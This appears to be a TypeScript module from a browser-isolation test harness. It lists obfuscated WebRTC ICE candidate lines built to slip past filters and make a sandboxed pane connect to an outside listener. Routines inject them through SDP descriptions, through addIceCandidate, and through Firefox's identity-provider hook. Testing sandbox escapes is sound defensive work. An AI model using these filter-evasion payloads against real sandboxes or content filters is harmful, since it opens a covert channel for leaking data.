import type { Attack } from './attack';

/*
 * Candidates that lead a browser to the listener, written so that a filter takes them for something else. The user
 * fragment tells the listener which of them arrived.
 */

/** Lines of a description; `ADDRESS` and `PORT` are the listener's. Each led one browser or both out of a pane once. */
export const CANDIDATE_LINES = [
  'a=candidate:1 1 udp 2113937151 ADDRESS PORT typ host',
  'a=candidate:1 1 udp 2113937151 ADDRESS PORT typ host generation 0 x end-of-candidates',
  'a=candidate:1 1 udp 2113937151 ADDRESS PORT typ host generation 0 x y\r',
  'a=candidate 1 1 UDP 2113937151 ADDRESS PORT typ host',
  'a=\tcandidate\t1 1 UDP 2113937151 ADDRESS PORT typ host',
  'a=candidate:    01234567-89AB-CDEF-0123-456789ABCDEF.LOCAL 1 UDP 2113937151 ADDRESS PORT typ host',
  'a=candidate:1 1  udp 2113937151 ADDRESS PORT typ host',
  'A=CANDIDATE:1 1 UDP 2113937151 ADDRESS PORT TYP HOST',
  'a=candidate:1 1 udp 2113937151 ADDRESS PORT typ srflx raddr 192.0.2.1 rport 9',
  'a=x:y\ra=candidate:1 1 udp 2113937151 ADDRESS PORT typ host',
  'a=mid:x\u2028a=candidate:1 1 udp 2113937151 ADDRESS PORT typ host',
] as const;

/** Which of them arrive from an ordinary page: otherwise their silence in a pane would prove nothing. */
export const ARRIVING: Readonly<Record<'chromium' | 'firefox', readonly number[]>> = {
  chromium: [0, 1, 2],
  firefox: [0, 1, 3, 4, 5],
};

/** @param lines as {@link CANDIDATE_LINES} */
export function candidateAttacks(lines: readonly string[]): readonly Attack[] {
  return [
    {
      name: 'candidates in descriptions',
      given: lines,
      run: async ({ address, udpPort }, lines, { answerTo }) => {
        const tries = (lines as string[]).map(async (line, index) => {
          const connection = new RTCPeerConnection();
          const sdp = await answerTo(connection, `sdpNumber${index}End`);
          const written = line.replaceAll('ADDRESS', address).replaceAll('PORT', String(udpPort));
          await connection.setRemoteDescription({ type: 'answer', sdp: `${sdp}${written}\r\n` });
        });
        await Promise.allSettled(tries);
        return new Promise((resolve) => setTimeout(resolve, 1500, 'set'));
      },
      outcome: 'set',
    },
    {
      name: 'candidates one by one',
      given: lines,
      run: async ({ address, udpPort }, lines, { answerTo }) => {
        const tries = (lines as string[]).map(async (line, index) => {
          const connection = new RTCPeerConnection();
          const sdp = await answerTo(connection, `addNumber${index}End`);
          await connection.setRemoteDescription({ type: 'answer', sdp });
          const written = line.replaceAll('ADDRESS', address).replaceAll('PORT', String(udpPort));
          for (const candidate of [written, written.slice(2)])
            await connection.addIceCandidate({ candidate, sdpMid: '0' }).catch(() => undefined);
        });
        await Promise.allSettled(tries);
        return new Promise((resolve) => setTimeout(resolve, 1500, 'added'));
      },
      outcome: 'added',
    },
  ];
}

/** A description that names who is to vouch for the other side: Firefox would ask that host. */
export const IDENTITY_ATTACKS: readonly Attack[] = [
  {
    name: 'an identity provider',
    run: async ({ address, httpPort }) => {
      const connection = new RTCPeerConnection() as RTCPeerConnection & {
        setIdentityProvider?: (host: string, options: object) => void;
        getIdentityAssertion?: () => Promise<string>;
      };
      connection.setIdentityProvider?.(`${address}:${httpPort}`, { protocol: 'x' });
      await connection.getIdentityAssertion?.();
      return 'asked';
    },
    outcome: /^(asked|NotSupportedError)$/, // asked: a browser that has no such thing
  },
];
